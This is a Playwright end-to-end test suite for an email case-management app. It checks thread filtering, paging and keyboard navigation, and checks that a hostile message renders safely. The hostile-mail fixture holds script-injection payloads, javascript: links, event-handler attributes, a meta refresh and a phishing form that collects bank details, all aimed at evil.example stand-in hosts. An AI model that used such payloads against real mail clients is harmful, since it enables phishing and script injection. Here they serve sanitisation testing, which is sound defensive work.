import type { BrowserContext, Page, Request } from '@playwright/test';
import type { ThreadView } from '../../preload/contract';
import { createTenantStore } from '../../main/sandbox/db/tenant-store';
import type { AttachmentMeta, MessageRecord, ThreadRecord } from '../../main/sandbox/model';
import { bridge, expect, screenshot, test, type Tenant } from './fixtures';
import { ThreadPage, ThreadsPage } from './pages/threads-page';

interface ServiceThread {
  id: string;
  status: { code: number };
  tags: string[];
  review_groups: string[];
  contacts: string[];
  customers: Array<{ external_id: string }>;
  created_at: string;
  updated_at: string;
  message_count: number;
  last_message: { id: string; subject: string; from: string };
  attachments: Array<{ id: string; file_name: string; file_not_dangerous: boolean | null }>;
}

async function serviceThreads(
  tenant: Tenant,
  filters: Record<string, unknown> = {},
): Promise<ServiceThread[]> {
  const response = await tenant.service.call('POST', '/api/v1/thread/search', {
    body: { filters, per_page: 1000 },
  });
  expect(response.status).toBe(200);
  return response.json<{ data: ServiceThread[] }>().data;
}

const sortedIds = (threads: ServiceThread[]) => threads.map((thread) => thread.id).sort();

/** The ids the list shows once it has settled on `expected`. */
async function expectListed(threads: ThreadsPage, expected: string[]): Promise<void> {
  await expect
    .poll(async () => (await threads.ids()).sort(), { timeout: 10_000 })
    .toEqual([...expected].sort());
  if (expected.length === 0) await expect(threads.empty).toBeVisible();
}

function mostCommon(values: string[]): string {
  const counts = new Map<string, number>();
  for (const value of values) counts.set(value, (counts.get(value) ?? 0) + 1);
  return [...counts.entries()].sort((a, b) => b[1] - a[1])[0]?.[0] ?? '';
}

const day = (iso: string) => iso.slice(0, 10);

// ---------------------------------------------------------------------------------------------
// Hostile mail, written into the tenant as the service would hold it.

/** A 1×1 image inline: its comma is part of its URL, not a break between srcset candidates. */
const INLINE_PNG =
  'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==';

const HOSTILE_HTML = `<html><head>
<base href="https://base.evil.example/">
<meta http-equiv="refresh" content="0;url=https://redirect.evil.example/">
<link rel="stylesheet" href="https://css.evil.example/mail.css">
<style>body{background:url(https://bg.evil.example/bg.png)} @import url(https://import.evil.example/i.css);</style>
</head><body onload="document.body.dataset.pwned='onload'">
<p>Please review the attached statement. CASEDESK-SAFE-TEXT</p>
<script>document.body.dataset.pwned='script';parent.document.documentElement.dataset.pwned='script';alert('script')</script>
<img src="https://img.evil.example/pixel.gif" onerror="alert('onerror')" width="40" height="20" alt="pixel">
<img src="cid:part1" onerror="document.body.dataset.pwned='onerror'">
<img srcset="https://srcset.evil.example/a.png 1x, https://srcset.evil.example/b.png 2x" alt="set">
<img srcset="${INLINE_PNG} 1x,https://srcset.evil.example/c.png 2x" alt="inline set">
<div style="background-image:url('https://inline.evil.example/bg.png')">Styled block</div>
<table background="https://table.evil.example/bg.png"><tr><td>Table cell</td></tr></table>
<a href="javascript:alert('js-link')">Open your statement</a>
<a href="https://phish.evil.example/login" onclick="alert('click')">Verify your account</a>
<a href="http://plain.evil.example/page">Plain http link</a>
<form action="https://form.evil.example/collect"><input name="iban"><button>Send</button></form>
<iframe src="https://frame.evil.example/"></iframe>
<svg onload="alert('svg')"><image href="https://svg.evil.example/i.png"/></svg>
<object data="https://object.evil.example/x.swf"></object>
<video poster="https://poster.evil.example/p.png"></video>
</body></html>`;

const OTHER_HTML =
  '<p>Second message. CASEDESK-OTHER-TEXT</p><img src="https://other.evil.example/b.png" alt="other">';

/**
 * Remote images the hostile mail carries that "Load remote content" would load: the <img> src, three
 * srcset candidates and the table background. Its CSS is not among them: mail CSS never applies.
 */
const HOSTILE_REMOTE_IMAGES = 5;

function attachment(id: string, name: string, safe: boolean | null): AttachmentMeta {
  return {
    id,
    file_mime: 'application/pdf',
    file_name: name,
    file_size: 20_480,
    file_type: 'pdf',
    file_not_dangerous: safe,
    attachment_movements: { movements: [], total: 0 },
  };
}

/** Adds a message to a thread of the tenant, later than anything in it, and syncs it in. */
async function deliver(
  tenant: Tenant,
  threadId: string,
  message: Pick<MessageRecord, 'id' | 'subject' | 'content' | 'attachments'>,
): Promise<void> {
  const db = tenant.service.sandbox.db;
  const row = db.prepare('SELECT json, assigned_to FROM threads WHERE id = ?').get(threadId) as {
    json: string;
    assigned_to: number | null;
  };
  const latest = db.prepare('SELECT MAX(updated_ms) AS m FROM threads').get() as { m: number };
  const at = new Date(Math.max(Date.now(), latest.m) + 60_000).toISOString();
  const thread = JSON.parse(row.json) as ThreadRecord;
  const stamped: MessageRecord = {
    ...thread.last_message,
    ...message,
    external_message_id: `<${message.id}@mail.example>`,
    from: '"Statement Service" <statements@evil.example>',
    created_at: at,
  };
  const updated: ThreadRecord = {
    ...thread,
    updated_at: at,
    message_count: thread.message_count + 1,
    last_message: stamped,
    external_message_ids: [...thread.external_message_ids, stamped.external_message_id],
    attachments: [...thread.attachments, ...message.attachments],
  };
  createTenantStore(db).putThread(updated, [stamped], row.assigned_to, true);
  await tenant.sync();
}

interface Watch {
  /** Loads of the hostile hosts the page attempted, even those its policies then refused. */
  attempts: string[];
  /** Requests that went out for them (answered here, never sent to the network). */
  remote: string[];
  dialogs: string[];
}

async function watch(page: Page, context: BrowserContext): Promise<Watch> {
  const seen: Watch = { attempts: [], remote: [], dialogs: [] };
  const png = Buffer.from(
    'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==',
    'base64',
  );
  await context.route(/evil\.example/, (route) => {
    seen.remote.push(route.request().url());
    return route.fulfill({ status: 200, contentType: 'image/png', body: png });
  });
  context.on('request', (request: Request) => {
    if (/evil\.example/.test(request.url())) seen.attempts.push(request.url());
  });
  page.on('dialog', (dialog) => {
    seen.dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  return seen;
}

async function hostileThread(page: Page, tenant: Tenant): Promise<{ threadId: string }> {
  const [target] = await serviceThreads(tenant);
  expect(target).toBeDefined();
  const threadId = target?.id ?? '';
  await deliver(tenant, threadId, {
    id: 'msg-hostile',
    subject: 'Your statement is ready',
    content: HOSTILE_HTML,
    attachments: [
      attachment('att-dangerous', 'statement.pdf.exe', false),
      attachment('att-unverified', 'invoice.pdf', null),
      attachment('att-safe', 'terms.pdf', true),
    ],
  });
  await deliver(tenant, threadId, {
    id: 'msg-other',
    subject: 'Another message',
    content: OTHER_HTML,
    attachments: [],
  });
  const view = await bridge<ThreadView | null>(page, 'threads.get', { id: threadId });
  expect(view?.messages.map((message) => message.id)).toEqual(
    expect.arrayContaining(['msg-hostile', 'msg-other']),
  );
  return { threadId };
}

test.describe('thread list', () => {
  test('filters give the service’s threads for the same filter', async ({ page, tenant }) => {
    const all = await serviceThreads(tenant);
    expect(all.length).toBeGreaterThan(10);
    const threads = new ThreadsPage(page);
    await threads.open();
    await expect(threads.total).toHaveText(`${all.length} threads`);
    await expectListed(threads, sortedIds(all));
    await screenshot(page, 'threads');

    const apply = async (
      name: string,
      set: () => Promise<void>,
      filters: Record<string, unknown>,
    ) => {
      if (await threads.clear.isVisible()) await threads.clear.click();
      await set();
      const expected = sortedIds(await serviceThreads(tenant, filters));
      expect(expected.length, `${name} should match some threads`).toBeGreaterThan(0);
      expect(expected.length, `${name} should not match every thread`).toBeLessThan(all.length);
      await expectListed(threads, expected);
    };

    const status = all[0]?.status.code ?? 1;
    await apply('status', () => threads.status.selectOption(String(status)).then(() => {}), {
      status,
    });
    const tag = mostCommon(all.flatMap((thread) => thread.tags));
    await apply('tag', () => threads.tag(tag).click(), { tag_codes: [tag] });
    await apply(
      'tag and status',
      async () => {
        await threads.tag(tag).click();
        await threads.status.selectOption(String(status));
      },
      { tag_codes: [tag], status },
    );
    const group = mostCommon(all.flatMap((thread) => thread.review_groups));
    await apply('review group', () => threads.reviewGroup(group).click(), {
      review_groups: [group],
    });
    const customer = all.find((thread) => thread.customers.length > 0)?.customers[0]?.external_id;
    await apply('customer', () => threads.customer.fill(customer ?? ''), {
      customer_id: customer,
    });
    const contact = (all[1]?.contacts[0] ?? '').split('@')[0] ?? '';
    await apply('contact', () => threads.contact.fill(contact), { contact });

    const created = all.map((thread) => day(thread.created_at)).sort();
    const createdFrom = created[Math.floor(created.length / 4)] ?? '';
    const createdTo = created[Math.floor((created.length * 3) / 4)] ?? '';
    await apply(
      'created range',
      async () => {
        await threads.dateFrom('created').fill(createdFrom);
        await threads.dateTo('created').fill(createdTo);
      },
      {
        min_created_at: `${createdFrom}T00:00:00.000Z`,
        max_created_at: `${createdTo}T23:59:59.999Z`,
      },
    );
    const updated = all.map((thread) => day(thread.updated_at)).sort();
    const updatedFrom = updated[Math.floor(updated.length / 2)] ?? '';
    await apply('updated since', () => threads.dateFrom('updated').fill(updatedFrom), {
      min_updated_at: `${updatedFrom}T00:00:00.000Z`,
    });

    // Content: the cache holds the messages synced so far, the service every message (and only the
    // start of long ones). Where the cache can know: every thread whose latest message has the word
    // in its subject is listed, and every thread listed has it in a message the cache holds.
    await threads.clear.click();
    const words = (text: string) => text.toLowerCase().split(/[^\p{L}\p{N}]+/u);
    const word =
      words(all[2]?.last_message.subject ?? '').sort((a, b) => b.length - a.length)[0] ?? '';
    expect(word.length).toBeGreaterThan(3);
    await threads.content.fill(word);
    await expect.poll(async () => (await threads.ids()).length).toBeLessThan(all.length);
    const sure = (await serviceThreads(tenant, { content: word }))
      .filter((thread) => words(thread.last_message.subject).includes(word))
      .map((thread) => thread.id);
    expect(sure).toContain(all[2]?.id);
    await expect
      .poll(async () => (await threads.ids()).sort())
      .toEqual(expect.arrayContaining(sure));
    for (const id of await threads.ids()) {
      const view = await bridge<ThreadView | null>(page, 'threads.get', { id });
      const text = (view?.messages ?? [])
        .map((message) => `${message.subject} ${message.html}`)
        .join(' ')
        .toLowerCase();
      expect(text, `thread ${id} holds "${word}"`).toContain(word);
    }

    await threads.content.fill('zzqx-no-such-words');
    await expect(threads.empty).toBeVisible();
    await threads.page.getByTestId('threads-empty').getByRole('button').click();
    await expectListed(threads, sortedIds(all));
  });

  test.describe('with more threads than a page', () => {
    test.use({ tenantScale: 60 });

    test('pages through the list and opens a thread from the keyboard', async ({
      page,
      tenant,
    }) => {
      const all = await serviceThreads(tenant);
      expect(all.length).toBeGreaterThan(50);
      const threads = new ThreadsPage(page);
      await threads.open();
      await expect(threads.range).toHaveText(`1–50 of ${all.length}`);
      await expect(threads.rows).toHaveCount(50);
      const first = await threads.ids();
      await threads.next.click();
      await expect(threads.range).toHaveText(`51–${all.length} of ${all.length}`);
      await expect(threads.rows).toHaveCount(all.length - 50);
      const second = await threads.ids();
      expect([...first, ...second].sort()).toEqual(sortedIds(all));
      await expect(threads.next).toBeDisabled();
      await threads.previous.click();
      await expect(threads.range).toHaveText(`1–50 of ${all.length}`);

      // j/k move the selection, Enter opens it.
      await threads.page.locator('#screen-title').focus();
      await expect(threads.selected).toHaveAttribute('data-thread-id', first[0] ?? '');
      await page.keyboard.press('j');
      await page.keyboard.press('j');
      await page.keyboard.press('k');
      await page.keyboard.press('j');
      await expect(threads.selected).toHaveAttribute('data-thread-id', first[2] ?? '');
      await page.keyboard.press('Enter');
      const thread = new ThreadPage(page);
      await expect(thread.screen).toBeVisible();
      await expect(page).toHaveURL(new RegExp(`#/thread/${encodeURIComponent(first[2] ?? '')}$`));
      // Back finds the list as it was left.
      await page.goBack();
      await expect(threads.selected).toHaveAttribute('data-thread-id', first[2] ?? '');
    });
  });
});

test.describe('thread', () => {
  test('shows the thread’s messages, people and attachments as the service has them', async ({
    page,
    tenant,
  }) => {
    const all = await serviceThreads(tenant);
    const target = all.find((thread) => thread.attachments.length > 0) ?? all[0];
    expect(target).toBeDefined();
    if (!target) return;
    const thread = new ThreadPage(page);
    await thread.open(target.id);
    await expect(thread.title).toHaveText(target.last_message.subject || '(no subject)');
    const last = thread.message(target.last_message.id);
    await expect(last.getByTestId('message-from')).toHaveText(target.last_message.from);
    await expect(last.getByTestId('message-subject')).toHaveText(target.last_message.subject);
    await expect(thread.body(last).locator('body')).not.toBeEmpty();
    await expect(page.getByTestId('thread-customer')).toHaveCount(target.customers.length);
    // Attachments, each with the service's safety verdict.
    const marks = page.getByTestId('attachment');
    await expect(marks).toHaveCount(target.attachments.length);
    for (const file of target.attachments) {
      const safety =
        file.file_not_dangerous === true
          ? 'safe'
          : file.file_not_dangerous === false
            ? 'dangerous'
            : 'unverified';
      const mark = page.locator(`[data-testid="attachment"][data-attachment-id="${file.id}"]`);
      await expect(mark).toContainText(file.file_name);
      await expect(mark).toHaveAttribute('data-safety', safety);
    }
  });

  test('a hostile message is shown harmless: nothing runs, nothing loads, links ask first', async ({
    page,
    context,
    tenant,
  }) => {
    const seen = await watch(page, context);
    const { threadId } = await hostileThread(page, tenant);
    const thread = new ThreadPage(page);
    await thread.watchShadowRoots();
    await thread.open(threadId);

    const hostile = thread.message('msg-hostile');
    const other = thread.message('msg-other');
    const frame = hostile.getByTestId('message-frame');
    // The sanitized message renders inside its sandboxed frame.
    await expect(thread.body(hostile).getByText('CASEDESK-SAFE-TEXT')).toBeVisible();
    await expect(thread.body(hostile).getByText('Table cell')).toBeVisible();
    await expect(thread.body(other).getByText('CASEDESK-OTHER-TEXT')).toBeVisible();
    await expect(frame).toHaveAttribute('sandbox', '');

    // What reaches the frame carries nothing active.
    const srcdoc = (await frame.getAttribute('srcdoc')) ?? '';
    expect(srcdoc).not.toMatch(
      /<script|<iframe|<object|<form|<input|<base|<svg|<link|http-equiv="refresh"|\son[a-z]+=|javascript:|href=/i,
    );
    expect(srcdoc).toContain("default-src 'none'");
    expect(srcdoc).not.toContain('evil.example');
    // The inline image of a srcset survives whole, and shows.
    expect(srcdoc).toContain(`srcset="${INLINE_PNG} 1x"`);
    await expect
      .poll(() =>
        thread
          .body(hostile)
          .locator('img[alt="inline set"]')
          .evaluate((image: HTMLImageElement) => image.naturalWidth),
      )
      .toBe(1);
    // The frame keeps the mail's own styling as cleaned (its inherited policy decides on it)...
    expect(srcdoc).toContain('<style>body{background:none}');
    expect(srcdoc).toContain('style="background-image:none"');
    // ...while the copy laid out in the app document to size the frame carries none of it.
    const measured = (await thread.shadowRoots()).filter((root) =>
      root.text.includes('CASEDESK-SAFE-TEXT'),
    );
    expect(measured.length).toBeGreaterThan(0);
    expect(measured.map(({ styles, styled }) => ({ styles, styled }))).toEqual(
      measured.map(() => ({ styles: 0, styled: 0 })),
    );

    // Nothing ran, in the frame or in the app.
    await expect(thread.body(hostile).locator('body')).not.toHaveAttribute('data-pwned', /.*/);
    await expect(page.locator('html')).not.toHaveAttribute('data-pwned', /.*/);
    await expect(page).toHaveTitle('CaseDesk');
    expect(seen.dialogs).toEqual([]);

    // Nothing was fetched from the sender's hosts, or even tried; the message says what was held
    // back.
    expect(seen.attempts).toEqual([]);
    expect(seen.remote).toEqual([]);
    await expect(hostile.getByTestId('remote-blocked')).toHaveText(
      `${HOSTILE_REMOTE_IMAGES} remote images blocked`,
    );
    await expect(hostile.getByTestId('active-removed')).toBeVisible();
    await expect(other.getByTestId('remote-blocked')).toHaveText('1 remote image blocked');

    // Links are listed with their real targets; the javascript: one is gone.
    const links = hostile.getByTestId('message-link');
    await expect(links).toHaveCount(2);
    await expect(hostile.getByTestId('message-link-target')).toHaveText([
      'https://phish.evil.example/login',
      'http://plain.evil.example/page',
    ]);
    await expect(hostile).not.toContainText('javascript:');

    // Attachments carry the service's verdict.
    await expect(
      hostile.getByTestId('attachment').filter({ hasText: 'statement.pdf.exe' }),
    ).toContainText('Marked dangerous');
    await expect(
      hostile.getByTestId('attachment').filter({ hasText: 'invoice.pdf' }),
    ).toContainText('Not verified');
    await screenshot(page, 'thread');

    // An http link is refused by CaseDesk, with its reason.
    await links.nth(1).getByRole('button').click();
    await expect(thread.linkConfirm).toContainText('http://plain.evil.example/page');
    await page.getByRole('button', { name: 'Open in browser', exact: true }).click();
    await expect(page.getByTestId('link-confirm-error')).toContainText('https');
    await page.getByRole('button', { name: 'Cancel' }).click();

    // An https link opens only after its real target was shown.
    await links.first().getByRole('button').click();
    await expect(page.getByTestId('link-confirm-target')).toHaveText(
      'https://phish.evil.example/login',
    );
    await expect(page.getByTestId('link-confirm-host')).toHaveText('phish.evil.example');
    const popup = context.waitForEvent('page');
    await page.getByRole('button', { name: 'Open in browser', exact: true }).click();
    expect((await popup).url()).toBe('https://phish.evil.example/login');
    await expect(thread.linkConfirm).toBeHidden();
    expect(seen.remote.filter((url) => !url.startsWith('https://phish.evil.example/'))).toEqual([]);
    expect(seen.dialogs).toEqual([]);
  });

  test('"Load remote content" loads that message’s images, and only that message’s', async ({
    page,
    context,
    tenant,
  }) => {
    const seen = await watch(page, context);
    const { threadId } = await hostileThread(page, tenant);
    const thread = new ThreadPage(page);
    await thread.open(threadId);
    const hostile = thread.message('msg-hostile');
    const other = thread.message('msg-other');
    await expect(thread.body(other).getByText('CASEDESK-OTHER-TEXT')).toBeVisible();
    expect(seen.remote).toEqual([]);

    await hostile.getByTestId('load-remote').click();
    await expect(hostile.getByTestId('remote-loaded')).toBeVisible();
    await expect
      .poll(() => seen.remote.some((url) => url.startsWith('https://img.evil.example/')), {
        message: 'the message’s own remote image is requested',
      })
      .toBe(true);
    await expect(thread.body(hostile).getByText('CASEDESK-SAFE-TEXT')).toBeVisible();
    // The other message stays blocked; active content never loads.
    await expect(other.getByTestId('remote-blocked')).toHaveText('1 remote image blocked');
    const hosts = new Set(seen.remote.map((url) => new URL(url).hostname));
    for (const never of [
      'other.evil.example',
      'base.evil.example',
      'redirect.evil.example',
      'css.evil.example',
      'import.evil.example',
      'bg.evil.example',
      'inline.evil.example',
      'frame.evil.example',
      'form.evil.example',
      'object.evil.example',
      'svg.evil.example',
      'poster.evil.example',
      'plain.evil.example',
    ])
      expect(hosts.has(never), never).toBe(false);
    expect(seen.dialogs).toEqual([]);
    await expect(thread.body(hostile).locator('body')).not.toHaveAttribute('data-pwned', /.*/);
  });
});
